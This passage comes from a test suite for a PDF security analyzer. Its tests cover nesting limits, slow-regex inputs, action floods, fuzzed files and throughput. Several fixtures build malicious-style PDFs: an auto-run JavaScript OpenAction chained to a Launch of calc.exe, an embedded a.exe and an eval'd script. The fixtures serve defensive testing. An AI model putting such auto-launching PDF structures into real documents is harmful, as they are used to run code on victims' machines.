      expect(facts(result).damage).toEqual(['object 1 0 at 9: nesting deeper than 64 levels', `object 2 0 at ${data.indexOf('2 0 obj')}: nesting deeper than 64 levels`]);
      expect(result.issues).toEqual([{ analyzer: 'pdf', kind: 'error', message: 'damaged PDF: object 1 0 at 9: nesting deeper than 64 levels (and 1 more, see resources.pdf.damage)' }]);
      expect(facts(result).objects).toBe(3);
    });

    it('text built to make pattern matching slow (unclosed XFA <script> tags, megabytes of hex in a script) is read in linear time', async () => {
      const xfa = `<template>${'<script contentType="application/x-javascript">'.repeat(100_000)}</template>`;
      const hex = `var s = "${'0123456789abcdef'.repeat(31)}${'0123456789abcde "+"'.repeat(200_000)}";`;
      const data = simpleDocument({
        catalog: ' /AcroForm << /XFA 8 0 R >> /OpenAction << /S /JavaScript /JS 9 0 R >>',
        objects: [
          { num: 8, body: '<< >>', stream: xfa, filters: ['FlateDecode'] },
          { num: 9, body: '<< >>', stream: hex, filters: ['FlateDecode'] },
        ],
      });
      const started = Date.now();
      const result = await run(data);
      expect(Date.now() - started).toBeLessThan(5_000);
      expect(facts(result)).toMatchObject({ xfa: true });
      expect(facts(result).javascript.map((s: { name: string; obfuscation?: string[] }) => [s.name, s.obfuscation])).toEqual([['script-9.js', undefined]]);
    });

    it('one large script stream behind 20,000 actions is read once', async () => {
      const big = `var x = "${'A'.repeat(2 * 1024 * 1024)}"; eval(x);`;
      const annots = Array.from({ length: 20_000 }, (_, i) => `<< /Subtype /Link /Rect [0 0 ${i} 1] /A << /S /JavaScript /JS 8 0 R >> >>`).join(' ');
      const data = simpleDocument({ page: ` /Annots [${annots}]`, objects: [{ num: 8, body: '<< >>', stream: big, filters: ['FlateDecode'] }] });
      const started = Date.now();
      const result = await run(data);
      expect(Date.now() - started).toBeLessThan(5_000);
      expect(result.children!.map((c) => [c.name, c.data.length])).toEqual([['script-8.js', big.length]]);
      expect(facts(result).actions).toHaveLength(100);
      expect(facts(result).actionCount).toBe(10_000);
      expect(result.issues).toEqual([{ analyzer: 'pdf', kind: 'limit', message: 'more than 10000 per kind: 10000 actions not analysed' }]);
    });

    it('truncations and byte flips of a valid file never throw', async () => {
      const base = buildPdf(
        [
          { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> >> >>', compressed: true },
          { num: 2, body: '<< /Type /Pages /Kids [] /Count 0 >>', compressed: true },
          { num: 7, body: `<< /S /JavaScript /JS ${pdfString(JS)} /Next << /S /Launch /F (calc.exe) >> >>`, compressed: true },
          { num: 8, body: '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>' },
          { num: 9, body: '<< /Type /EmbeddedFile >>', stream: minimalPe(), filters: ['FlateDecode', 'ASCIIHexDecode'] },
        ],
        { trailer: '/Root 1 0 R', xref: 'stream', encrypt: { revision: 4 } },
      );
      const random = seededBytes(4000, 99);
      for (let k = 0; k < 200; k++) {
        const copy = Buffer.from(base.subarray(0, k % 2 ? base.length : 40 + ((random[k] * 13 + k * 7) % (base.length - 40))));
        for (let f = 0; f < 4; f++) copy[(random[k * 4 + f] * 257 + random[k * 4 + f + 1]) % copy.length] = random[k * 4 + f + 2];
        const result = await run(new Uint8Array(copy));
        expect(result.facts!.pdf).toBeDefined();
      }
    });

    it('an aborted analysis returns what it has, marked as partial', async () => {
      const controller = new AbortController();
      controller.abort();
      const parts = ['%PDF-1.4\n'];
      for (let i = 1; i <= 20_000; i++) parts.push(`${i} 0 obj\n<< /N ${i} >>\nendobj\n`);
      const result = await analyzer.analyze(fileContext(new Uint8Array(Buffer.from(parts.join(''))), 'big.pdf', { signal: controller.signal }));
      expect(result.issues).toContainEqual({ analyzer: 'pdf', kind: 'timeout', message: 'time budget spent while scanning objects: the report is partial' });
      expect(facts(result).truncated).toBe('time budget spent while scanning objects');
    });
  });

  it(`throughput: a generated 20 MB PDF of many streams`, async () => {
    const objects: PdfObjectInput[] = [
      { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
      { num: 3, body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
    ];
    const pages = 2400;
    const kids: string[] = [];
    const pool = Buffer.from(seededBytes(1 << 20, 42));
    const slice = (i: number, n: number) => pool.subarray((i * 7919) % (pool.length - n), ((i * 7919) % (pool.length - n)) + n);
    for (let i = 0; i < pages; i++) {
      const n = 10 + i * 3;
      kids.push(`${n} 0 R`);
      const lines: string[] = [];
      for (let k = 0; k < 120; k++) lines.push(`BT /F1 10 Tf 72 ${700 - k * 5} Td (${slice(i * 120 + k, 20).toString('base64')}) Tj ET`);
      objects.push({ num: n, body: `<< /Type /Page /Parent 2 0 R /Resources << /Font << /F1 3 0 R >> /XObject << /Im1 ${n + 2} 0 R >> >> /Contents ${n + 1} 0 R >>`, compressed: i % 2 === 0 });
      objects.push({ num: n + 1, body: '<< >>', stream: lines.join('\n'), filters: ['FlateDecode'] });
      objects.push({ num: n + 2, body: '<< /Type /XObject /Subtype /Image /Width 64 /Height 64 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode >>', encoded: slice(i, 5000) });
    }
    objects.push({ num: 2, body: `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${pages} >>` });
    const data = buildPdf(objects, { trailer: '/Root 1 0 R', xref: 'stream' });
    expect(data.length).toBeGreaterThan(20_000_000);
    const started = process.hrtime.bigint();
    const result = await run(data);
    const seconds = Number(process.hrtime.bigint() - started) / 1e9;
    // Page contents and images, the object stream and the cross-reference stream.
    expect(facts(result)).toMatchObject({ pages, streams: pages * 2 + 2, objectStreams: 1, xref: { valid: true } });
    expect(result.signals).toEqual([]);
    // Tens of MB/s on the shared development machines; the bound leaves room for a loaded CI.
    expect(data.length / 1e6 / seconds).toBeGreaterThan(10);
  });
});
